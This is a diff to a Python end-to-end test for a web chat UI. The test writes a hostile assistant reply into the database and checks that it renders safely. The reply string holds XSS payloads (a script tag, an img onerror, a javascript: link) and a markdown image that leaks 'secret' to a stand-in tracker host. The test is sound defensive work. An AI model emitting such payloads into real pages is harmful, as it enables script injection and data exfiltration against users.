@@ -1,5 +1,6 @@
 """The web chat against the running system (P5): signing in, streaming, tools and sources, stopping."""
 
+import json
 import re
 
 import pytest
@@ -152,14 +153,20 @@ async def test_a_failing_model_ends_in_one_honest_line_and_typing_stops(visit: V
 
 
 async def test_text_of_a_reply_cannot_load_pictures_run_code_or_lead_astray(visit: Visit) -> None:
+    """No such text leaves the engine; it stands here as if it had."""
     visitor = await visit()
-    await visitor.model(
-        {
-            "text": "Hi ![x](http://tracker.example/x.png?said=secret) <img src=x onerror=alert(1)> "
-            "<script>alert(1)</script> [go](javascript:alert(1)) [ok](https://example.org/)"
-        }
-    )
+    await visitor.model({"text": "Hi."})
     await visitor.write("hello")
+    await visitor.settled()
+    text = (
+        "Hi ![x](http://tracker.example/x.png?said=secret) <img src=x onerror=alert(1)> "
+        "<script>alert(1)</script> [go](javascript:alert(1)) [ok](https://example.org/)"
+    )
+    await visitor.system.sql(
+        "update messages set parts = %s::jsonb where user_id = %s and role = 'assistant' returning id",
+        [json.dumps([{"type": "text", "text": text, "state": "done"}]), visitor.sub],
+    )
+    await visitor.page.reload()
     await expect(visitor.replies.get_by_role("link", name="ok")).to_be_visible()
     assert await visitor.replies.locator("img, script").count() == 0
     links = [await link.get_attribute("href") for link in await visitor.replies.get_by_role("link").all()]
